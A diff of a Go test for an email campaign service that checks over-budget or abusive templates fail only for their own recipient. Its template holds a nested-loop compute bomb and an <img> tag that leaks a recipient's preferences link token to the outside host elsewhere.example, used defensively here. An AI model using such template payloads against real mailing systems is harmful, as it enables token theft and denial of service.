@@ -5,8 +5,6 @@ import (
 	"strings"
 	"testing"
 	"time"
-
-	"github.com/regulars/regulars/campaigns"
 )
 
 // TestRendersOverBudgetFailTheirRecipientOnly sends a campaign that passes the save-time check
@@ -20,21 +18,12 @@ func TestRendersOverBudgetFailTheirRecipientOnly(t *testing.T) {
 	e.addMembers(t, 4, "ok", "example.com", "active", "confirmed")
 	bomb := e.addMembers(t, 1, "bomb", "example.com", "active", "confirmed")[0]
 	leak := e.addMembers(t, 1, "leak", "example.com", "active", "confirmed")[0]
-	name, subject, seg, holdout := "Traps", "Hi", e.segmentID, 0.0
 	html := `{{if eq .Member.Name "Kari bomb1"}}{{range 1000000}}{{range 1000000}}{{end}}{{end}}{{end}}` +
 		`{{if eq .Member.Name "Kari leak1"}}<img src="https://elsewhere.example/?p={{.Links.Preferences}}">{{end}}` +
 		`<p><a href="{{.Links.Preferences}}">Preferences</a></p>`
-	c, err := campaigns.Create(ctx, e.db, testFrom, campaigns.Input{Name: &name, Subject: &subject,
-		HTML: &html, SegmentID: &seg, HoldoutPercent: &holdout})
-	if err != nil {
-		t.Fatal(err)
-	}
-	at := e.base.Add(time.Minute)
-	if _, err := Schedule(ctx, e.db, c.ID, ScheduleInput{SendAt: &at}); err != nil {
-		t.Fatal(err)
-	}
+	id := e.htmlCampaign(t, "Traps", html)
 	start(t, []*Dispatcher{e.dispatcher()}, []*Sender{e.sender(t, 2, 0)})
-	waitFor(t, "the campaign to be sent", time.Minute, func() bool { return e.campaignStatus(t, c.ID) == "sent" })
+	waitFor(t, "the campaign to be sent", time.Minute, func() bool { return e.campaignStatus(t, id) == "sent" })
 
 	want := map[string]bool{}
 	for _, a := range addresses("ok", "example.com", 4) {
@@ -44,7 +33,7 @@ func TestRendersOverBudgetFailTheirRecipientOnly(t *testing.T) {
 	for member, why := range map[int64]string{bomb: "uses more than 1 s of computing", leak: "may only be used as a whole link"} {
 		var status, msg string
 		if err := e.db.Pool.QueryRow(ctx, `SELECT cr.status, coalesce(cr.error, '') FROM campaign_recipients cr
-			JOIN campaign_runs r ON r.id = cr.run_id WHERE r.campaign_id = $1 AND cr.member_id = $2`, c.ID, member).
+			JOIN campaign_runs r ON r.id = cr.run_id WHERE r.campaign_id = $1 AND cr.member_id = $2`, id, member).
 			Scan(&status, &msg); err != nil {
 			t.Fatal(err)
 		}
